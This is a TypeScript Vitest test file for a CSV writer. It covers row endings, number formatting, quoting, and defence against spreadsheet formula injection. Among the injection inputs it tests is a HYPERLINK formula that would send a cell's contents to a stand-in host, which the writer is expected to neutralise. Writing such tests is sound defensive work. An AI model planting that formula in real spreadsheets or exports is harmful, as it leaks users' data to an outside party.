import { describe, expect, test } from "vitest";

import { toCsv } from "../../../src/exchange/writers/csv.ts";

describe("CSV", () => {
  test("has one line a row, each ended by CR and LF", () => {
    expect(
      toCsv([
        ["Name", "Papers"],
        ["Ada", 3],
      ]),
    ).toBe("Name,Papers\r\nAda,3\r\n");
  });

  test("gives numbers twelve digits, without what sums of shares leave behind them", () => {
    expect(toCsv([[55.99999999999999, 1 / 3, 1e-7 / 3, 1234567890123, 12]])).toBe(
      "56,0.333333333333,3.33333333333e-8,1234567890123,12\r\n",
    );
  });

  test("of no rows is empty", () => {
    expect(toCsv([])).toBe("");
  });

  test.each([
    ["a comma", "Lovelace, Ada", '"Lovelace, Ada"'],
    ["a quote", 'Ada "the" Lovelace', '"Ada ""the"" Lovelace"'],
    ["a line feed", "Ada\nLovelace", '"Ada\nLovelace"'],
    ["a carriage return", "Ada\rLovelace", '"Ada\rLovelace"'],
    ["nothing but a quote", '"', '""""'],
  ])("puts text with %s between quotes", (_, text, field) => {
    expect(toCsv([[text, "Bob"]])).toBe(`${field},Bob\r\n`);
  });

  test.each([
    ["Ada Lovelace"],
    ["David Rügamer"],
    ["王小明"],
    ["O'Neil"],
    ["a;b"],
    [""],
    [" Ada "],
  ])("leaves %j as it is", (text) => {
    expect(toCsv([[text]])).toBe(`${text}\r\n`);
  });
});

describe("a spreadsheet", () => {
  test.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(1)", "'@SUM(1)"],
    ["\t=1", "'\t=1"],
    ["\0=1", "'\0=1"],
    ["\r=1", '"\'\r=1"'],
    ['=HYPERLINK("http://e/"&A1)', '"\'=HYPERLINK(""http://e/""&A1)"'],
    ["=A1,B1", '"\'=A1,B1"'],
  ])("takes %j for text", (text, field) => {
    expect(toCsv([[text]])).toBe(`${field}\r\n`);
  });

  test.each([["Ada=1"], ["Ada-Bob"], ["a@b"], ["1+1"]])("reads %j as it is", (text) => {
    expect(toCsv([[text]])).toBe(`${text}\r\n`);
  });

  test("takes numbers for numbers, negative ones too", () => {
    expect(toCsv([[-5, 0, 2.4, 1e21]])).toBe("-5,0,2.4,1e+21\r\n");
  });
});
